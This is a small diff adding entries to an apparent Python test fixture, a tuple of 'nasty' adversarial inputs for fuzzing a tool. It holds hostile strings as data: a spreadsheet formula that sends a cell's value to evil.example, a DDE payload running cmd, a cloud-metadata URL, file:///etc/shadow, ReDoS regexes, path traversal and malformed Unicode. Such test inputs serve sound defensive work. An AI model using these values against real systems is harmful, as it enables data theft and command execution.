@@ -29,4 +29,7 @@ NASTY: tuple[str, ...] = (
     "https://127.0.0.1:8080/admin http://169.254.169.254/latest/meta-data/ file:///etc/shadow",
     "/(a+)+$/ /(?:x*)*y/ /[/",
     "-- --sources --every -1s --format=../../x",
+    '=HYPERLINK("https://evil.example/?"&A1,"open") +cmd|\' /C calc\'!A0 @SUM(1+1) -2+3',  # spreadsheet formulas
+    "lone \ud800 surrogate &#55296; \udfff\ufffe\uffff",  # unencodable, and XML-invalid characters
+    "\x00\x0b\x0c\x1b\x7f\x9f control \u202e\u2066 bidi",
 )
